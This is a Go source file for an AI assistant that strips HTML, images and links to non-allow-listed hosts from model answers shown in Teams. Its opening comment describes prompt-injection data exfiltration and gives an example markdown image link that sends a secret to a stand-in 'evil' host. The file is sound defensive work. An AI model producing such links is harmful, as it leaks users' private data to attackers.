package assistant

import (
	"net/url"
	"regexp"
	"strings"
)

// Answers are rendered by Teams, which fetches images and turns URLs into links. A model that
// read a hostile document could otherwise smuggle the user's data out in a URL ("![x](https://
// evil/?q=secret)"), so an answer keeps links only to allowed hosts over https, and no images.

var (
	htmlTagRE  = regexp.MustCompile(`(?s)<[^<>]*>`)
	mdLinkRE   = regexp.MustCompile(`(!?)\[([^\[\]]*)\]\(\s*<?((?:[^()\s<>]|\([^()\s<>]*\))*)>?(?:\s+"[^"]*")?\s*\)`)
	mdRefDefRE = regexp.MustCompile(`(?m)^[ \t]{0,3}\[[^\]]+\]:[ \t]*\S+.*$`)
	bareURLRE  = regexp.MustCompile(`(?i)\b(?:[a-z][a-z0-9+.-]*://|www\.)[^\s<>()\[\]"']+`)
)

// hostAllowed reports whether u is an https URL to an allowed host. Entries are host names or
// "*.domain" (any sub-domain of domain).
func hostAllowed(u string, hosts []string) bool {
	p, err := url.Parse(u)
	if err != nil || p.Scheme != "https" || p.User != nil || p.Host == "" {
		return false
	}
	h := strings.ToLower(p.Hostname())
	for _, a := range hosts {
		a = strings.ToLower(a)
		if d, ok := strings.CutPrefix(a, "*."); ok {
			if strings.HasSuffix(h, "."+d) {
				return true
			}
		} else if h == a {
			return true
		}
	}
	return false
}

// SafeAnswer removes from a model's markdown answer every HTML tag, every image, every link or
// URL not to an allowed host, and link reference definitions; link texts stay as plain text. It
// reports how many items it removed.
func SafeAnswer(s string, hosts []string) (string, int) {
	removed := 0
	s = strings.ReplaceAll(s, "\x00", "")
	s = htmlTagRE.ReplaceAllStringFunc(s, func(string) string { removed++; return "" })
	s = mdRefDefRE.ReplaceAllStringFunc(s, func(string) string { removed++; return "" })
	var kept []string
	s = mdLinkRE.ReplaceAllStringFunc(s, func(m string) string {
		g := mdLinkRE.FindStringSubmatch(m)
		image, text, u := g[1] == "!", g[2], g[3]
		if !image && hostAllowed(u, hosts) {
			kept = append(kept, "["+text+"]("+u+")")
			return "\x00" + string(rune(0xE000+len(kept)-1)) + "\x00"
		}
		removed++
		return text
	})
	s = bareURLRE.ReplaceAllStringFunc(s, func(u string) string {
		trimmed := strings.TrimRight(u, ".,;:!?")
		if hostAllowed(trimmed, hosts) {
			return u
		}
		removed++
		return "[link removed]" + u[len(trimmed):]
	})
	for i, k := range kept {
		s = strings.Replace(s, "\x00"+string(rune(0xE000+i))+"\x00", k, 1)
	}
	return strings.TrimSpace(s), removed
}
